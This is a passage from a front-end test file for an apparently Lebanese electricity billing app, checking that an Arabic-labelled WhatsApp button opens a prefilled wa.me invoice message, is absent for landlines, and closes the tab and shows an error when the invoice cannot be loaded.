    const invoiceLink = await screen.findByRole('link', { name: 'واتساب' });
    const invoiceHref = invoiceLink.getAttribute('href')!;
    invoicePage.unmount();

    const tab = fakeTab();
    const { user } = setup(invoiceRoute, [
      { ...first, phone: '+9613123456', outstandingBalance: 45 },
      second,
    ]);
    const rows = within(await table()).getAllByRole('row');
    const withPhone = rows.find((row) => within(row).queryByText('#1000'))!;
    expect(within(withPhone).getByText('03 123 456')).toBeInTheDocument();
    await user.click(within(withPhone).getByRole('button', { name: 'واتساب' }));

    await waitFor(() => expect(tab.location.href).toBe(invoiceHref));
    expect(window.open).toHaveBeenCalledWith('', '_blank');
    expect(tab.opener).toBeNull();
    const href = new URL(tab.location.href);
    expect(href.origin + href.pathname).toBe('https://wa.me/9613123456');
    const text = href.searchParams.get('text') ?? '';
    expect(text).toContain('رقم المشترك: 1000');
    expect(text).toContain('رقم الفاتورة: INV-1000-2026');
    expect(text).toContain('فاتورة الكهرباء لشهر كانون الأول 2026.');
    expect(text).toContain('$205 (18,347,500 ل.ل)');
    expect(text).toContain(`${TEST_PUBLIC_ADDRESS}/customer-portal`);
  });

  it('has no WhatsApp button for a customer without a phone or with a landline', async () => {
    setup({}, [{ ...first, phone: '+9611234567' }, second]);
    const rows = within(await table()).getAllByRole('row');
    for (const row of rows.slice(1)) {
      expect(within(row).queryByRole('button', { name: 'واتساب' })).not.toBeInTheDocument();
    }
  });

  it('closes the tab and says so when the statement cannot be read', async () => {
    const tab = fakeTab();
    const { user } = setup({ 'GET /api/ampere-records/rec-1000/invoice': { status: 500, body: 'boom' } }, [
      { ...first, phone: '+9613123456' },
      second,
    ]);
    const rows = within(await table()).getAllByRole('row');
    const withPhone = rows.find((row) => within(row).queryByText('#1000'))!;
    await user.click(within(withPhone).getByRole('button', { name: 'واتساب' }));

    expect(await screen.findByText('تعذّر تحضير رسالة الفاتورة')).toBeInTheDocument();
    expect(tab.close).toHaveBeenCalled();
    expect(tab.location.href).toBe('');
  });
});
